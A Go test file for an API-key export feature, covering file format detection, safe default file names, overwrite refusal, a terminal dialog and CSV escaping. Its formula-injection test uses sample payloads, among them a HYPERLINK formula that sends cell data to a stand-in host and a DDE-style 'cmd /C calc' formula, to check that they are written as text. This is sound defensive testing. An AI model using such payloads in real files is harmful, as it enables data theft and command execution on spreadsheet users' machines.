package export

import (
	"bytes"
	"encoding/csv"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/charmbracelet/lipgloss"
	"github.com/charmbracelet/x/ansi"

	"h2ogpte-keys/model"
	"h2ogpte-keys/ui/common"
	"h2ogpte-keys/ui/common/commontest"
)

func TestMain(m *testing.M) { commontest.Main(m) }

var now = time.Date(2026, 11, 26, 15, 4, 5, 0, time.UTC)

func TestFormatOf(t *testing.T) {
	tests := []struct {
		path string
		want Format
		err  bool
	}{
		{"keys.csv", CSV, false},
		{"./a/b/KEYS.CSV", CSV, false},
		{"keys.json", JSON, false},
		{" keys.Json ", JSON, false},
		{"keys.txt", 0, true},
		{"keys", 0, true},
		{"csv", 0, true},
		{"", 0, true},
	}
	for _, tt := range tests {
		got, err := FormatOf(tt.path)
		if (err != nil) != tt.err || err == nil && got != tt.want {
			t.Errorf("FormatOf(%q) = %v, %v", tt.path, got, err)
		}
	}
}

func TestDefaultPath(t *testing.T) {
	tests := []struct{ scope, want string }{
		{"alice", "./h2ogpte-keys-alice-20261126-150405.csv"},
		{"all-users", "./h2ogpte-keys-all-users-20261126-150405.csv"},
		{"../../etc/passwd", "./h2ogpte-keys-_._.._etc_passwd-20261126-150405.csv"}, // no separator survives
		{"ann.lee@example.com", "./h2ogpte-keys-ann.lee_example.com-20261126-150405.csv"},
		{"", "./h2ogpte-keys-keys-20261126-150405.csv"},
	}
	for _, tt := range tests {
		if got := DefaultPath(tt.scope, now); got != tt.want {
			t.Errorf("DefaultPath(%q) = %q, want %q", tt.scope, got, tt.want)
		}
	}
}

func keys() []model.APIKey {
	return []model.APIKey{
		{ID: "k1", Username: "alice", Name: "laptop", Hint: "abcd", Created: now.Add(-time.Hour), IsActive: true, IsGlobal: true},
		{ID: "k2", Username: "bob", Name: "bot,\"quoted\"", Hint: "wxyz", Created: now.Add(-48 * time.Hour), IsActive: false,
			CollectionID: "c1", CollectionName: "Docs", LastUsed: model.Null[time.Time](), TotalCalls: model.Some[int64](7)},
	}
}

func TestWrite(t *testing.T) {
	dir := t.TempDir()
	for _, f := range []Format{CSV, JSON} {
		path := filepath.Join(dir, "keys-"+f.String())
		if err := Write(path, f, keys(), now, false); err != nil {
			t.Fatal(err)
		}
		got, _ := os.ReadFile(path)
		var want bytes.Buffer
		if f == CSV {
			_ = model.WriteKeysCSV(&want, keys(), now) // no formula-like cell: the same bytes
		} else {
			_ = model.WriteKeysJSON(&want, keys(), now)
		}
		if !bytes.Equal(got, want.Bytes()) {
			t.Errorf("%v file differs from the CLI's records:\n%s", f, got)
		}
		if bytes.Contains(got, []byte("sk-")) {
			t.Errorf("%v file holds something like a secret:\n%s", f, got)
		}
		// Not replaced unless asked.
		err := Write(path, f, keys()[:1], now, false)
		if !errors.Is(err, ErrExists) {
			t.Errorf("second write: %v, want ErrExists", err)
		}
		if again, _ := os.ReadFile(path); !bytes.Equal(again, got) {
			t.Error("a refused write changed the file")
		}
		if err := Write(path, f, keys()[:1], now, true); err != nil {
			t.Fatal(err)
		}
		if again, _ := os.ReadFile(path); bytes.Equal(again, got) || bytes.Contains(again, []byte("bot,")) {
			t.Errorf("overwrite did not replace the file:\n%s", again)
		}
	}
	if err := Write(filepath.Join(dir, "no", "such", "dir.csv"), CSV, keys(), now, false); err == nil || !strings.Contains(err.Error(), "no such file") {
		t.Errorf("missing directory: %v", err)
	}
	home := t.TempDir()
	t.Setenv("HOME", home)
	if err := Write("~/in-home.csv", CSV, keys(), now, false); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(home, "in-home.csv")); err != nil {
		t.Errorf("~/ not expanded: %v", err)
	}
}

func newDialog() *Model {
	c := common.Common{Styles: common.NewStyles(common.DefaultTheme()), Now: func() time.Time { return now }, Width: 80, Height: 24}
	return New(c, Options{Path: DefaultPath("alice", now), Count: 1234, Notes: []string{"Keys are still loading."}})
}

func TestDialog(t *testing.T) {
	m := newDialog()
	v := commontest.Words(ansi.Strip(m.View()))
	for _, want := range []string{"Export 1,234 keys", "No secret is ever exported", "Keys are still loading.",
		"File: ./h2ogpte-keys-alice-20261126-150405.csv", "CSV: a header row"} {
		if !strings.Contains(v, want) {
			t.Errorf("view lacks %q:\n%s", want, m.View())
		}
	}
	if got, ok := commontest.Press(m, "enter").(Chosen); !ok || got.Path != "./h2ogpte-keys-alice-20261126-150405.csv" || got.Format != CSV {
		t.Errorf("enter on the prefilled path gave %#v", got)
	}
	// The extension decides; editing keeps the rest.
	m = newDialog()
	if got, ok := commontest.Press(m, "backspace", "backspace", "backspace", "json", "enter").(Chosen); !ok || got.Format != JSON ||
		!strings.HasSuffix(got.Path, ".json") {
		t.Errorf("json path gave %#v", got)
	}
	m = newDialog()
	if msg := commontest.Press(m, "ctrl+u", "keys.txt", "enter"); msg != nil {
		t.Errorf("a .txt path was accepted: %#v", msg)
	}
	if m.Err() == nil || !strings.Contains(ansi.Strip(m.View()), ".csv or .json") {
		t.Errorf("refusal not shown:\n%s", m.View())
	}
	if _, ok := commontest.Press(m, "esc").(common.Cancelled); !ok {
		t.Error("esc did not cancel")
	}
	if h := lipgloss.Height(m.View()); h > 24 {
		t.Errorf("dialog is %d lines in 24", h)
	}
}

// TestWriteCSVFormulas: a key name (or any cell) that a spreadsheet would
// run as a formula is written as text; JSON keeps it as it is.
func TestWriteCSVFormulas(t *testing.T) {
	evil := []model.APIKey{
		{ID: "k1", Username: "alice", Name: `=HYPERLINK("http://x.example/?"&A1,"open")`, Hint: "abcd", Created: now, IsActive: true, IsGlobal: true},
		{ID: "k2", Username: "@admin", Name: "@SUM(1+1)*cmd|' /C calc'!A0", Hint: "wxyz", Created: now, IsActive: true,
			CollectionID: "c1", CollectionName: "+Docs"},
		{ID: "-k3", Username: "bob", Name: "\tTabbed", Hint: "efgh", Created: now, IsActive: true, IsGlobal: true},
	}
	dir := t.TempDir()
	path := filepath.Join(dir, "keys.csv")
	if err := Write(path, CSV, evil, now, false); err != nil {
		t.Fatal(err)
	}
	f, _ := os.Open(path)
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+len(evil) {
		t.Fatalf("%d rows", len(rows))
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
	}
	for _, want := range []string{`'=HYPERLINK(`, `'@SUM(1+1)`, `'@admin`, `'+Docs`, `'-k3`} {
		if !strings.Contains(strings.Join(flatten(rows), "\n"), want) {
			t.Errorf("no cell starting %q in %q", want, rows)
		}
	}
	jpath := filepath.Join(dir, "keys.json")
	if err := Write(jpath, JSON, evil, now, false); err != nil {
		t.Fatal(err)
	}
	if j, _ := os.ReadFile(jpath); !bytes.Contains(j, []byte(`"name": "=HYPERLINK(`)) {
		t.Errorf("JSON changed the name:\n%s", j)
	}
}

func flatten(rows [][]string) []string {
	var out []string
	for _, r := range rows {
		out = append(out, r...)
	}
	return out
}
